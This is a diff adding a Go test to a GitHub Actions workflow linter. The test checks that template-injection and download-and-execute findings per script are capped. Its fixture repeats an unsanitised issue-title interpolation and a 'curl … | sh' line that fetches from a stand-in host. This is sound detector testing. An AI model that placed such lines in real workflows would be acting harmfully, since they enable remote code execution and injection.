@@ -5,6 +5,8 @@ import (
 	"testing"
 
 	"github.com/rhysd/actionlint"
+
+	"github.com/buildwall/buildwall/internal/ciconfig"
 )
 
 // The cheap pre-filters must never hide a real match.
@@ -51,6 +53,28 @@ func TestMayBeUntrustedCoversUntrustedInputs(t *testing.T) {
 		es := expressions("echo ${{" + expr)
 		if len(es) != 1 || len(untrustedInputs(es[0].Node)) == 0 {
 			t.Errorf("%s is not reported as untrusted", p)
+		}
+	}
+}
+
+func TestFindingsPerScriptAreBounded(t *testing.T) {
+	run := strings.Repeat("echo \"${{ github.event.issue.title }}\"\ncurl -s https://x.example | sh\n", 2*maxFindingsPerScalar)
+	var b strings.Builder
+	b.WriteString("on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n")
+	for line := range strings.SplitSeq(strings.TrimSuffix(run, "\n"), "\n") {
+		b.WriteString("          " + line + "\n")
+	}
+	w, err := ciconfig.ParseWorkflow([]byte(b.String()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	counts := map[string]int{}
+	for _, f := range CheckWorkflow(&Context{Path: "x.yml"}, w) {
+		counts[f.Rule]++
+	}
+	for _, rule := range []string{"template-injection", "download-exec"} {
+		if counts[rule] != maxFindingsPerScalar {
+			t.Errorf("%s: %d findings, want %d", rule, counts[rule], maxFindingsPerScalar)
 		}
 	}
 }
